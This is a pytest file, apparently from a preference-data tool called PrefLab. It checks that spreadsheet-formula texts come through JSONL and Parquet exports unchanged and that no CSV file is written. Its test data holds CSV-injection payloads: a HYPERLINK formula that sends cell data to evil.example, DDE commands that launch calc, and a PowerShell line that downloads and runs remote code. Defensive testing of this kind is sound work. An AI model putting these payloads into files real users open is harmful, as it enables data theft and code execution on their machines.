"""Texts that a spreadsheet would run as formulas (CSV injection: = + - @, tab and carriage
return first) come out of JSONL and Parquet exports exactly as imported. PrefLab writes no CSV,
so there is no cell to neutralise; this keeps it so."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from tests.factories import ProjectFactory
from tests.security.hostile import Stored, run_import
from webapp.exports.selectors import ExportSpec
from webapp.exports.services import export_create, export_write

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
]


def _rows(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".parquet":
        return pq.read_table(path).to_pylist()
    raw = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
    return [json.loads(line) for line in raw.decode().split("\n") if line]


@pytest.mark.parametrize("fmt", ["jsonl", "jsonl.gz", "parquet"])
@pytest.mark.parametrize("style", ["standard", "conversational"])
def test_formula_texts_round_trip_exactly(
    stored: Stored, tmp_path: Path, fmt: str, style: str
) -> None:
    project = ProjectFactory(name="formulas")
    records = [
        {"prompt": f"{f} #{i}", "chosen": f, "rejected": f"{FORMULAS[i - 1]}"}
        for i, f in enumerate(FORMULAS)
    ]
    path = tmp_path / "formulas.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    batch = run_import(project, path)
    assert batch.pairs_created == len(FORMULAS) and not batch.errors
    snapshot = export_write(
        snapshot=export_create(
            project=project,
            file_format=fmt,
            spec=ExportSpec(style=style),
            enqueue=False,
        )
    )
    names = [f["name"] for f in snapshot.files]
    assert not any(n.endswith(".csv") or n.endswith(".csv.gz") for n in names)
    rows = [r for n in names if n != "README.md" for r in _rows(snapshot.path / n)]
    by_prompt: dict[str, tuple[str, str]] = {}
    for row in rows:
        prompt = row["prompt"] if style == "standard" else row["prompt"][-1]["content"]
        chosen = row["chosen"] if style == "standard" else row["chosen"][-1]["content"]
        rejected = row["rejected"] if style == "standard" else row["rejected"][-1]["content"]
        by_prompt[prompt] = (chosen, rejected)
    assert by_prompt == {r["prompt"]: (r["chosen"], r["rejected"]) for r in records}
    stored.assert_unchanged(new_pairs=len(FORMULAS))  # the other project's pairs are untouched
